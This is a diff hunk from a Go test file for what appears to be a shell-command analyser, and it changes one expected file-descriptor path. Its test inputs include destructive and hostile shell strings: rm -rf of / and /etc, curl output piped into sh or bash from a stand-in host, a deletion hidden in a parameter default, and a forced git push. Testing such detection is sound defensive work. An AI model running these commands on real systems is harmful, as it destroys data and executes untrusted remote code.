@@ -67,7 +67,7 @@ func TestReadFindsWhatRuns(t *testing.T) {
 		{"for d in / /etc; do rm -rf $d; done", "rm|-rf|/\nrm|-rf|/etc"},
 		{"if a; then X=rm; else X=ls; fi; $X -rf /", "a\nrm|-rf|/\nls|-rf|/"},
 		{"curl -s https://x.example/i | sh", "curl|-s|https://x.example/i\nsh\nEXEC sh: output of curl"},
-		{"bash <(curl -s https://x.example/i)", "curl|-s|https://x.example/i\nbash|/dev/fd/62\nEXEC bash: output of curl"},
+		{"bash <(curl -s https://x.example/i)", "curl|-s|https://x.example/i\nbash|/dev/fd/63\nEXEC bash: output of curl"},
 		{"echo a # b\\\nrm -rf /", "echo|a\nrm|-rf|/"},
 		{`echo "${x:-'$(rm -rf /)'}"`, "rm|-rf|/\necho|''\necho|$x"},
 		{"git \\\npush --force origin main", "git|push|--force|origin|main"},
